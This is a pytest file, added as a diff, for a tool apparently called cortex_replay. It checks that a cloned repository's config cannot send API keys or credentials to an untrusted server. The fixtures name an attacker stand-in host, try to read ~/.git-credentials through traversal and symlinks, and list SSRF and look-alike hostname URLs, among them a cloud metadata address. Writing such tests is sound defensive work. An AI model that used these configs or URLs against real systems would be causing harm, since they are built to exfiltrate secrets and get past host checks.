@@ -1,0 +1,417 @@
+"""No key goes anywhere it does not belong: a repository names servers and keys, and gets nothing.
+
+The judge is a server that keeps every byte it is sent. It is reached under names of strangers: it is the
+proxy of the child process, and plain HTTP goes to a proxy whole.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+import subprocess
+import sys
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from cortex_replay.config import key_for, load_settings
+from cortex_replay.config.keys import known_secrets
+from cortex_replay.config.servers import server_of
+from cortex_replay.config.trust import Consent, needed_consent
+from cortex_replay.errors import InvalidRequest
+
+SECRET = "wJalr" + "XUtnFEMI" + "K7MDENG9bPxRfiCY" + "0KEY"
+EVIL = "http://llm.attacker.example"
+_CHUNK = {
+    "id": "x",
+    "object": "chat.completion.chunk",
+    "created": 1,
+    "model": "m",
+    "choices": [{"index": 0, "delta": {"role": "assistant", "content": "hi"}, "finish_reason": "stop"}],
+}
+ANSWER = b"data: " + json.dumps(_CHUNK).encode() + b"\n\ndata: [DONE]\n\n"
+
+
+class Sink:
+    """Keeps all that it gets, and answers as a model does."""
+
+    def __init__(self) -> None:
+        self._listener = socket.create_server(("127.0.0.1", 0))
+        self.port: int = self._listener.getsockname()[1]
+        self.received = b""
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                connection, _ = self._listener.accept()
+            except OSError:
+                return
+            threading.Thread(target=self._answer, args=[connection], daemon=True).start()
+
+    def _answer(self, connection: socket.socket) -> None:
+        with connection:
+            connection.settimeout(2)
+            data = b""
+            try:
+                while b"\r\n\r\n" not in data:
+                    more = connection.recv(65536)
+                    if not more:
+                        return
+                    data += more
+                    self.received += more
+                head = b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\nconnection: close\r\n"
+                connection.sendall(head + b"content-length: %d\r\n\r\n" % len(ANSWER) + ANSWER)
+                while more := connection.recv(65536):
+                    self.received += more
+            except OSError:
+                return
+
+    def close(self) -> None:
+        self._listener.close()
+
+
+@pytest.fixture
+def sink() -> Iterator[Sink]:
+    made = Sink()
+    yield made
+    made.close()
+
+
+class Clone:
+    """A stranger's repository, and the user who has cloned it."""
+
+    def __init__(self, tmp_path: Path, sink: Sink) -> None:
+        self.home = tmp_path / "home"
+        self.root = tmp_path / "clone"
+        (self.root / ".git").mkdir(parents=True)
+        self.home.mkdir()
+        self._tool = [sys.executable, "-m", "cortex_replay"]
+        proxy = f"http://127.0.0.1:{sink.port}"
+        self.environment = {
+            "PATH": os.environ["PATH"],
+            "HOME": str(self.home),
+            "PYTHONPATH": str(Path(__file__).parents[2]),
+            "AWS_SECRET_ACCESS_KEY": SECRET,
+            "HTTP_PROXY": proxy,
+            "http_proxy": proxy,
+        }
+
+    def says(self, text: str) -> None:
+        (self.root / "cortex-replay.toml").write_text(text)
+
+    def run(self, *words: str, **environment: str) -> subprocess.CompletedProcess[str]:
+        return subprocess.run(
+            [*self._tool, *words],
+            cwd=self.root,
+            env=self.environment | environment,
+            capture_output=True,
+            text=True,
+            timeout=60,
+            check=False,
+        )
+
+    def record(self, **environment: str) -> subprocess.CompletedProcess[str]:
+        return self.run("record", "--model", "m", "--prompt", "Hi", **environment)
+
+
+@pytest.fixture
+def clone(tmp_path: Path, sink: Sink) -> Clone:
+    return Clone(tmp_path, sink)
+
+
+def provider(kind: str, base_url: str, key: str, name: str = "p") -> str:
+    return f'provider = "{name}"\n[providers.{name}]\nkind = "{kind}"\nbase_url = "{base_url}"\n{key}\n'
+
+
+KEYS = {
+    "variable": 'key_env = "AWS_SECRET_ACCESS_KEY"',
+    "second variable": 'key_env = ["NOT_SET", "AWS_SECRET_ACCESS_KEY"]',
+    "file at home": 'key_file = "~/.git-credentials"',
+    "file above": 'key_file = "../home/.git-credentials"',
+    "file through a link": 'key_file = "linked/.git-credentials"',
+    "link": 'key_file = "credentials"',
+}
+
+
+@pytest.mark.parametrize("key", KEYS)
+def test_a_repository_gets_no_key(clone: Clone, sink: Sink, key: str) -> None:
+    """Whichever way its configuration names one."""
+    credentials = clone.home / ".git-credentials"
+    credentials.write_text(SECRET + "\n")
+    credentials.chmod(0o600)
+    (clone.root / "linked").symlink_to(clone.home)
+    (clone.root / "credentials").symlink_to(credentials)
+    clone.says(provider("openai-compat", f"{EVIL}/v1", KEYS[key]))
+    result = clone.record()
+
+    assert SECRET.encode() not in sink.received
+    assert sink.received == b""
+    assert result.returncode == 2, result.stderr
+    assert SECRET not in result.stdout + result.stderr
+
+
+@pytest.mark.parametrize("kind", ["claude", "openai-compat", "openai-responses"])
+def test_no_kind_of_provider_gets_one(clone: Clone, sink: Sink, kind: str) -> None:
+    """And the message says what was refused and how to allow it."""
+    clone.says(provider(kind, EVIL, 'key_env = "AWS_SECRET_ACCESS_KEY"'))
+    result = clone.record()
+
+    assert sink.received == b""
+    assert f"cortex-replay trust {EVIL} AWS_SECRET_ACCESS_KEY" in result.stderr
+
+
+def test_the_server_of_a_built_in_provider_is_changed(clone: Clone, sink: Sink) -> None:
+    """Its own variable is not for another server, nor for its own host without TLS."""
+    for url in (EVIL, "http://api.openai.com/v1"):
+        clone.says(f'provider = "openai"\n[providers.openai]\nbase_url = "{url}"\nkey_env = "OPENAI_API_KEY"')
+        clone.record(OPENAI_API_KEY=SECRET)
+
+    assert sink.received == b""
+
+
+def gateway(clone: Clone, header: str, name: str = "openai", **environment: str) -> str:
+    """What a client behind the gateway is told that brings a key of its own."""
+    code = (
+        "import os, urllib.request as u, urllib.error as e\n"
+        f"r = u.Request(os.environ['CORTEX_REPLAY_GATEWAY'].rstrip('/') + '/{name}/v1/chat/completions',"
+        " data=b'{\"model\": \"m\", \"messages\": [{\"role\": \"user\", \"content\": \"Hi\"}]}',"
+        f" headers={{'content-type': 'application/json', {header}}})\n"
+        "try: print(u.build_opener(u.ProxyHandler({})).open(r).read().decode())\n"
+        "except e.HTTPError as error: print(error.read().decode())\n"
+    )
+    result = clone.run("record", "--", sys.executable, "-c", code, **environment)
+    return result.stdout + result.stderr
+
+
+def test_the_gateway_injects_no_key(clone: Clone, sink: Sink) -> None:
+    """For a client that has none."""
+    clone.says(f'[providers.openai]\nbase_url = "{EVIL}"\nkey_env = "AWS_SECRET_ACCESS_KEY"')
+    said = gateway(clone, "'accept': '*/*'")
+
+    assert sink.received == b""
+    assert f"cortex-replay trust {EVIL} AWS_SECRET_ACCESS_KEY" in said
+
+
+@pytest.mark.parametrize(
+    "header", ["'authorization': 'Bearer {}'", "'x-api-key': '{}'", "'x-auth-token': '{}'", "'api-key': '{}'"]
+)
+def test_the_gateway_passes_on_no_key_of_a_client(clone: Clone, sink: Sink, header: str) -> None:
+    """Who thinks that it speaks to its provider."""
+    clone.says(f'[providers.openai]\nbase_url = "{EVIL}"')
+    said = gateway(clone, header.replace("{}", SECRET))
+
+    assert SECRET.encode() not in sink.received
+    assert sink.received == b""
+    assert f"cortex-replay trust {EVIL} client" in said
+
+
+def test_a_client_without_a_key_may_ask_any_server(clone: Clone, sink: Sink) -> None:
+    """As before: a local network's model needs none."""
+    clone.says(f'[providers.openai]\nbase_url = "{EVIL}"')
+    gateway(clone, "'idempotency-key': 'abc'")
+
+    assert b"POST http://llm.attacker.example/v1/chat/completions" in sink.received
+
+
+def test_consent_is_given_remembered_and_taken_back(clone: Clone, sink: Sink) -> None:
+    """For one server and one key, in a file of the user's own."""
+    clone.says(provider("openai-compat", f"{EVIL}/v1", 'key_env = "AWS_SECRET_ACCESS_KEY"'))
+    asked = clone.run("trust", "--json")
+    given = clone.run("trust", EVIL, "AWS_SECRET_ACCESS_KEY")
+    file = clone.home / ".config/cortex-replay/trust.toml"
+    result = clone.record()
+
+    assert (asked.returncode, json.loads(asked.stdout)["asked"][0]["allowed"]) == (4, False)
+    assert given.returncode == 0, given.stderr
+    assert file.stat().st_mode & 0o777 == 0o600
+    assert result.returncode == 0, result.stderr
+    assert SECRET.encode() in sink.received
+    assert clone.run("trust").returncode == 0
+    assert SECRET not in file.read_text()
+
+    sink.received = b""
+    assert clone.record(CI="true").returncode == 2  # nothing that is remembered counts there
+    assert clone.run("trust", "--list").stdout == f"{EVIL}  AWS_SECRET_ACCESS_KEY\n"
+    assert clone.run("trust", "--remove", EVIL).returncode == 0
+    assert clone.run("record", "--model", "m", "--prompt", "Again").returncode == 2
+    assert sink.received == b""
+
+
+@pytest.mark.parametrize(
+    "consent",
+    ["https://llm.attacker.example=AWS_SECRET_ACCESS_KEY", f"{EVIL}:81=AWS_SECRET_ACCESS_KEY", f"{EVIL}=OTHER"],
+)
+def test_consent_for_something_else(clone: Clone, sink: Sink, consent: str) -> None:
+    """Another scheme, another port, another key."""
+    clone.says(provider("openai-compat", f"{EVIL}/v1", 'key_env = "AWS_SECRET_ACCESS_KEY"'))
+
+    assert clone.record(CORTEX_REPLAY_TRUST=consent).returncode == 2
+    assert sink.received == b""
+
+
+def test_consent_for_one_run(clone: Clone, sink: Sink) -> None:
+    """By a variable or a flag: also in CI."""
+    clone.says(provider("openai-compat", f"{EVIL}/v1", 'key_env = "AWS_SECRET_ACCESS_KEY"'))
+    consent = f"{EVIL}=AWS_SECRET_ACCESS_KEY"
+    by_variable = clone.record(CORTEX_REPLAY_TRUST=consent, CI="1")
+    by_flag = clone.run("--trust", consent, "record", "--model", "m", "--prompt", "2", CI="1")
+
+    assert (by_variable.returncode, by_flag.returncode) == (0, 0), by_flag.stderr
+    assert sink.received.count(SECRET.encode()) == 2
+
+
+@pytest.mark.parametrize("spoil", ["mode", "link", "damage"])
+def test_a_trust_file_that_is_not_the_users_own(clone: Clone, sink: Sink, spoil: str) -> None:
+    """Is refused, and nothing is sent."""
+    clone.says(provider("openai-compat", f"{EVIL}/v1", 'key_env = "AWS_SECRET_ACCESS_KEY"'))
+    clone.run("trust", "--all")
+    file = clone.home / ".config/cortex-replay/trust.toml"
+    if spoil == "mode":
+        file.chmod(0o666)
+    elif spoil == "link":
+        file.rename(clone.root / "trust.toml")
+        file.symlink_to(clone.root / "trust.toml")
+    else:
+        file.write_text("trust = 1")
+
+    assert clone.record().returncode == 2
+    assert sink.received == b""
+
+
+def test_replay_asks_for_no_consent(clone: Clone, sink: Sink) -> None:
+    """What is recorded is given, whatever the configuration says of keys."""
+    clone.says(provider("openai-compat", f"{EVIL}/v1", 'key_env = "AWS_SECRET_ACCESS_KEY"\nkey_file = "~/x"'))
+    clone.run("--trust", f"{EVIL}=AWS_SECRET_ACCESS_KEY", "record", "--model", "m", "--prompt", "Hi")
+    sink.received = b""
+    code = (
+        "import asyncio; from cortex_replay import *\n"
+        "print(asyncio.run(ReplayAdapter(Store.open('.')).complete(LlmRequest('m', messages='Hi', max_tokens=1024))).text)"
+    )
+    result = clone.run("replay", "--", sys.executable, "-c", code)
+
+    assert "hi" in result.stdout, result.stderr
+    assert clone.run("verify").returncode == 0
+    assert clone.run("config").returncode == 0
+    assert sink.received == b""
+
+
+def test_the_user_may_say_what_a_project_may_not(clone: Clone, sink: Sink) -> None:
+    """In a configuration of their own; a project cannot turn its key to another server."""
+    key = clone.home / "key"
+    key.write_text(SECRET)
+    key.chmod(0o600)
+    own = clone.home / ".config/cortex-replay/config.toml"
+    own.parent.mkdir(parents=True)
+    own.write_text(provider("openai-compat", "http://llm.corp.example/v1", 'key_file = "~/key"', "corp"))
+    allowed = clone.record()
+
+    assert allowed.returncode == 0, allowed.stderr
+    assert SECRET.encode() in sink.received
+
+    sink.received = b""
+    clone.says(f'[providers.corp]\nbase_url = "{EVIL}"')
+    assert clone.run("record", "--model", "m", "--prompt", "2").returncode == 2
+    clone.says('[providers.corp]\nkey_env = "AWS_SECRET_ACCESS_KEY"')
+    assert clone.run("record", "--model", "m", "--prompt", "3").returncode == 2
+    assert sink.received == b""
+
+
+def test_a_flag_is_the_users_own_choice(clone: Clone, sink: Sink) -> None:
+    """Of a server; a key that the project names still needs consent."""
+    clone.says(provider("openai-compat", EVIL, ""))
+    url = "http://other.example/v1"
+
+    assert clone.run("record", "--model", "m", "--prompt", "1", "--base-url", url).returncode == 0
+    clone.says(provider("openai-compat", EVIL, 'key_env = "AWS_SECRET_ACCESS_KEY"'))
+    assert clone.run("record", "--model", "m", "--prompt", "2", "--base-url", url).returncode == 2
+    assert SECRET.encode() not in sink.received
+
+
+CONFUSING = [
+    "https://api.openai.com@evil.example",
+    "https://api.openai.com.evil.example/v1",
+    "https://api.openai.com./v1",
+    "https://evil.example/api.openai.com",
+    "https://api.openai.com:8443/v1",
+    "http://api.openai.com/v1",
+    "http://api.openai.com:443/v1",
+    "https://api.opena\u0131.com/v1",
+    "https://\uff41pi.openai.com/v1",
+    "https://api%2eopenai.com/v1",
+    "https://api.openai.com\\@evil.example",
+    "http://127.0.0.1.nip.io",
+    "http://0x7f.1",
+    "http://2130706433",
+    "http://127.1",
+    "http://0177.0.0.1",
+    "http://0.0.0.0",
+    "http://[::]",
+    "http://[::ffff:1.2.3.4]",
+    "http://[::ffff:127.0.0.1]",
+    "http://localhost.evil.example",
+    "http://localhost.",
+    "http://evil.localhost",
+    "http://127.0.0.1@evil.example",
+    "http://[::1].evil.example",
+    "http://169.254.169.254",
+]
+
+
+@pytest.mark.parametrize("url", CONFUSING)
+def test_a_server_that_looks_like_another(tmp_path: Path, url: str) -> None:
+    """Is neither the provider's own nor this machine."""
+    (tmp_path / "cortex-replay.toml").write_text(
+        f'[providers.openai]\nbase_url = {json.dumps(url)}\nkey_env = "OPENAI_API_KEY"'
+    )
+    with pytest.raises(InvalidRequest):
+        one = load_settings(tmp_path, {}).settings.providers["openai"]
+        key_for(one, {"OPENAI_API_KEY": SECRET})
+
+
+@pytest.mark.parametrize(
+    ("url", "same"),
+    [
+        ("HTTPS://API.OpenAI.com/v1", "https://api.openai.com"),
+        ("https://api.openai.com:443", "https://api.openai.com"),
+        ("http://LOCALHOST:80/", "http://localhost"),
+        ("http://[0:0:0:0:0:0:0:1]:8000/v1", "http://[::1]:8000"),
+        ("http://127.8.9.1:1/", "http://127.8.9.1:1"),
+    ],
+)
+def test_spellings_of_one_server(url: str, same: str) -> None:
+    """Case, the default port and zeros make no difference."""
+    assert str(server_of(url)) == same
+
+
+def test_what_needs_no_consent(tmp_path: Path) -> None:
+    """The provider's own server with its own variable, and this machine."""
+    own = 'base_url = "https://api.openai.com/v1"\nkey_env = '
+    for url_and_key, needed in [
+        (own + '"OPENAI_API_KEY"', None),
+        (own + '"AWS_SECRET_ACCESS_KEY"', Consent("https://api.openai.com", "AWS_SECRET_ACCESS_KEY")),
+        ('base_url = "http://127.0.0.1:8000"\nkey_env = "VLLM_KEY"', None),
+        ('base_url = "http://[::1]:8000"\nkey_env = "VLLM_KEY"', None),
+        ('base_url = "https://llm.example"\nkey_env = "VLLM_KEY"', Consent("https://llm.example", "VLLM_KEY")),
+    ]:
+        (tmp_path / "cortex-replay.toml").write_text(f"[providers.openai]\n{url_and_key}")
+        one = load_settings(tmp_path, {}).settings.providers["openai"]
+        assert needed_consent(one, one.key_env[0], "key_env") == needed, url_and_key
+
+
+def test_files_of_a_project_stay_inside(tmp_path: Path) -> None:
+    """Tokens and scripts as keys, and what is refused is not read either."""
+    secret = tmp_path / "secret"
+    secret.write_text(SECRET)
+    secret.chmod(0o600)
+    root = tmp_path / "clone"
+    root.mkdir()
+    (root / "cortex-replay.toml").write_text(
+        f'[providers.a]\nkind = "openai-compat"\nkey_file = "{secret}"\n'
+        '[callers.c]\ntoken_file = "../secret"\n'
+    )
+
+    assert SECRET not in known_secrets(load_settings(root, {}).settings, {})
